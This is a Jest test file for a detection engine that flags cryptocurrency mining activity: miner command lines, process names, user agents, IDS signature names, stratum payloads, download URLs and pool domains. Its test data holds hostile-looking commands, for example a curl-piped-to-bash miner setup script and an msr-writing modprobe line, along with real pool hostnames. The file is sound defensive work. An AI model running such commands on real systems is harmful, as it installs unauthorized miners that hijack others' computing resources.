import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, test } from '@jest/globals';
import { assert, constantFrom, property, string } from 'fast-check';
import { base64Forms } from '../../scripts/curate/base64.ts';
import { compile } from '../../src/lookups/compile.ts';
import { parseLookup } from '../../src/lookups/parse.ts';
import { createMatcher } from '../../src/matcher/match.ts';
import type { EventDocument } from '../../src/model/event.ts';

const FOLDER = new URL('../../lookups/', import.meta.url);
const files = readdirSync(FOLDER).filter((file) => file.endsWith('.json') && file !== 'exceptions.json');
const lookups = files.flatMap((file) => parseLookup(readFileSync(new URL(file, FOLDER), 'utf8'), file).lookup ?? []);
const matcher = createMatcher(compile(lookups, '2026-11-24'));
const match = (event: EventDocument) => matcher.match(event);

const command = (line: string) => match({ process: { command_line: line } });
const matched = (event: EventDocument) => (match(event)?.matches ?? []).map(({ indicator }) => indicator.value);
const asked = (name: string) => match({ dns: { question: { name } } });
const call = (method: string, params: unknown) => ({
  message: JSON.stringify({ id: 1, jsonrpc: '2.0', method, params }),
});

describe('command lines', () => {
  test.each([
    'xmrig.exe -o stratum+tcp://pool.example.org:3333 -u 4A -p x',
    './a -o STRATUM+SSL://pool.example.org:443 -u 4A',
    'ethminer -G -P stratum1+tcp://0xab.rig@pool.example.org:4444',
    'svchosts.exe --url stratum2+ssl://pool.example.org:5555',
    'minerd -a sha256d -o stratum://pool.example.org:3333',
  ])('%s is mining itself', (line) => {
    expect(command(line)).toMatchObject({ score: 99, severity: 'critical' });
  });

  test.each([
    './kworkerds --donate-level 1 -o pool.example.org:443 -k --tls',
    'x.exe --algo=rx/0 -o 192.0.2.1:443',
    'x.exe -a rx/0 --randomx-1gb-pages',
    'EthDcr.exe -epool eu1.example.org:4444 -ewal 0xab.rig -epsw x',
    'SRB --algorithm ghostrider --pool pool.example.org:7056 --wallet R9',
    'bash -c "curl -s -L https://example.org/setup_moneroocean_miner.sh | bash -s 4A"',
    'sh -c /sbin/modprobe msr allow_writes=on > /dev/null 2>&1',
    'nohup ./sys --cpu-priority=5 -B',
  ])('%s is high', (line) => {
    expect(command(line)).toMatchObject({ severity: 'high' });
  });

  test.each([
    'grep -rn stratum+tcp:// /var/log',
    'findstr /s /i "stratum+tcp://" C:\\Users\\*.bat',
    'powershell -c "Get-ChildItem | Select-String stratum+tcp://"',
    'notepad.exe C:\\notes\\stratum+tcp://.txt',
    'gcc -O2 -c pool.c -o pool.o',
    'ld -r pool.a -o pool.o -lm',
    'curl -o pool.html https://example.org/pool',
    'ping -n 4 pool.ntp.org',
    'C:\\Windows\\System32\\VBoxTray.exe vboxmrxnp.dll',
    'python train.py --coin-flip --donate',
    'zpool create tank mirror sda sdb',
  ])('%s is none', (line) => {
    expect(command(line)).toBeUndefined();
  });

  const texts = ['stratum+tcp://', 'stratum+ssl://', 'stratum+udp://', '--donate-level='];

  test.each(['utf8', 'utf16le'] as const)(
    'the main strings are found in base64 wherever they begin: %s',
    (encoding) => {
      assert(
        property(constantFrom(...texts), string(), string(), (text, before, after) => {
          const code = Buffer.from(`${before}${text}${after}`, encoding).toString('base64');
          expect(command(`powershell -e ${code}`)?.matches.length).toBeGreaterThan(0);
          expect(base64Forms(text, encoding).some((form) => code.includes(form))).toBe(true);
        }),
      );
    },
  );

  test('three of the forms are those that Sigma lists', () => {
    expect(base64Forms('stratum+tcp://', 'utf8')).toEqual([
      'c3RyYXR1bSt0Y3A6Ly',
      'N0cmF0dW0rdGNwOi8v',
      'zdHJhdHVtK3RjcDovL',
    ]);
  });
});

describe('processes', () => {
  test.each([
    'C:\\Temp\\XMRig.exe',
    'xmrig.exe',
    '/tmp/xmrig',
    '/opt/kdevtmpfsi',
    'D:\\LOLMINER.EXE',
    '/root/lolMiner',
  ])('%s', (executable) => {
    expect(match({ process: { executable } })).toMatchObject({ severity: 'high' });
  });

  test.each(['C:\\Temp\\miner.exe', '[kdevtmpfs]', '/usr/bin/kswapd0', 'C:\\xmrig\\notepad.exe', '/opt/determiner'])(
    'not %s',
    (executable) => {
      expect(match({ process: { executable } })).toBeUndefined();
    },
  );
});

describe('user agents', () => {
  test.each(['XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/11.2.0', 'xmrig 5.1', 'cpuminer/2.5.0', 'cgminer 4.9.2'])(
    '%s',
    (original) => {
      expect(match({ user_agent: { original } })).toMatchObject({ severity: 'high' });
    },
  );

  test.each(['Mozilla/5.0 (compatible; XMRig/6)', 'dataminer/1.0', 'curl/8.5.0', 'DeterMiner/2'])(
    'not %s',
    (original) => {
      expect(match({ user_agent: { original } })).toBeUndefined();
    },
  );
});

describe('signatures', () => {
  test.each([
    'ET POLICY Cryptocurrency Miner Checkin',
    'ET COINMINER Win32/Repl_it Coin Miner CnC Checkin',
    'ET COINMINER CoinMiner Domain in DNS Lookup (pool .hashvault .pro)',
    'ET POLICY DNS request for Monero mining pool',
    'ET POLICY poclbm BitCoin miner',
    'PUA-OTHER Cryptocurrency Miner outbound connection attempt',
    'Crypto Currency Mining Activity Detected',
    'CoinMiner Command and Control Traffic Detection',
    'Riskware/BitCoinMiner',
    'Cryptomining',
  ])('%s', (name) => {
    expect(match({ rule: { name } })).toMatchObject({ severity: 'high' });
  });

  test.each([
    'Data Mining Bot Detected',
    'Medical Examiner Access',
    'ET POLICY Bitcoin Wallet Download',
    'Mining-VLAN',
  ])('not %s', (name) => {
    expect(match({ rule: { name } })).toBeUndefined();
  });
});

describe('payloads', () => {
  test.each<[string, unknown]>([
    ['mining.subscribe', []],
    ['mining.authorize', ['worker', 'x']],
    ['login', { login: '4A', pass: 'x', agent: 'XMRig/6.21.0' }],
    ['submit', { id: 'a', job_id: 'b', nonce: 'c', result: 'd' }],
    ['job', { blob: 'aa', job_id: 'b', target: 'c' }],
    ['eth_submitLogin', ['0xab']],
  ])('%s is mining itself', (method, params) => {
    expect(match(call(method, params))).toMatchObject({ score: 99 });
  });

  test.each<[string, unknown]>([
    ['login', { user: 'a', password: 'b' }],
    ['login', { login: 'a', pass: 'b' }],
    ['submit', { form: 'a' }],
    ['job', { name: 'backup' }],
    ['eth_blockNumber', []],
  ])('%s with %j is none', (method, params) => {
    expect(match(call(method, params))).toBeUndefined();
  });

  test("what a coin's node answers too never makes more than a low alert", () => {
    expect(match(call('getblocktemplate', [{}]))?.score).toBeLessThanOrEqual(46);
  });
});

describe('URLs', () => {
  test.each([
    ['https://coinhive.com/lib/coinhive.min.js?x=1', 'coinhive.com/lib/coinhive.min.js'],
    [
      'https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-x64.tar.gz',
      'github.com/xmrig/xmrig/releases/download/',
    ],
    [
      'https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh',
      'raw.githubusercontent.com/MoneroOcean/xmrig_setup/',
    ],
  ])('%s', (full, row) => {
    expect(matched({ url: { full } })).toContain(row);
  });

  test.each(['https://github.com/xmrig/xmrig', 'https://github.com/elastic/beats/releases/download/v1/a.zip'])(
    'not %s',
    (full) => {
      expect(matched({ url: { full } })).toEqual([]);
    },
  );
});

describe('researched pools and sites', () => {
  test.each(
    `daggerhashimoto.auto.nicehash.com sha256.eu-west.nicehash.com btc.viabtc.io ss.antpool.com stratum.braiins.com
     eu.stratum.braiins.com pool.woolypooly.com stratum-eu.rplant.xyz ghostrider.eu.mine.zergpool.com
     us.mining.prohashing.com eu-eth.hiveon.net eu2.solopool.org public-pool.io solo.ckpool.org mine.ocean.xyz
     btc.global.luxor.tech eu.emcd.io americas.mining-dutch.nl wps.qubic.li xmr.kryptex.network rx.unmineable.com
     qubic.asia.apool.io mint.bitminter.com`.split(/\s+/),
  )('%s is asked for by miners', (name) => {
    expect(asked(name)).toMatchObject({ severity: 'high' });
  });

  test.each(['www.nicehash.com', 'www.antpool.com', 'braiins.com', 'ocean.xyz', 'emercoin.com'])(
    '%s is a site: low',
    (name) => {
      expect(asked(name)).toMatchObject({ severity: 'low' });
    },
  );

  test.each(['github.com', 'binance.com', 'xmrig.com', 'pool.ntp.org', 'notnicehash.com'])('%s is none', (name) => {
    expect(asked(name)).toBeUndefined();
  });
});

test('an extended port tags, and alone makes no alert', () => {
  const flow = { source: { ip: '10.1.1.1', port: 50_123 }, destination: { ip: '51.1.1.1', port: 45_700 } };
  expect(match(flow)).toMatchObject({ severity: 'none', matches: [expect.anything()] });
});

test.each([80, 443, 8080, 25, 22, 9200, 2222])('port %i is on no list', (port) => {
  expect(match({ destination: { port } })).toBeUndefined();
});

test('every row cites a page, and its provider and licence', () => {
  for (const { provider, licence, reference, value } of lookups.flatMap(({ indicators }) => indicators)) {
    expect([value, provider, licence]).toEqual([value, expect.stringMatching(/\S/), expect.stringMatching(/\S/)]);
    expect([value, reference]).toEqual([value, expect.stringMatching(/^https?:\/\/\S+\.\S+$/)]);
  }
});
